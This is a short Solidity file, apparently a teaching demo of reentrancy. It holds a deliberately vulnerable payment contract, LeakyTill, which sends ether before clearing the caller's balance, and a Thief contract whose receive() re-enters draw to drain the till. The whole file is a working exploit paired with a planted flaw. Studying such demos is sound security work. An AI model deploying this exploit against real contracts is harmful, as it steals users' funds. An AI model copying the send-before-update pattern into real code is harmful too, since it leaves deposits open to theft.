// SPDX-License-Identifier: MIT
pragma solidity 0.8.37;

contract LeakyTill {
    mapping(address => uint256) public owed;

    function pay(address seller) external payable {
        owed[seller] += msg.value;
    }

    function draw(address to) external {
        uint256 amount = owed[msg.sender];
        (bool ok,) = to.call{value: amount}(""); // interaction first
        require(ok);
        owed[msg.sender] = 0; // too late
    }
}

contract Thief {
    LeakyTill private immutable till;

    constructor(LeakyTill till_) payable {
        till = till_;
        till.pay{value: msg.value}(address(this));
    }

    function steal() external {
        till.draw(address(this));
    }

    receive() external payable {
        if (address(till).balance >= msg.value) till.draw(address(this));
    }
}
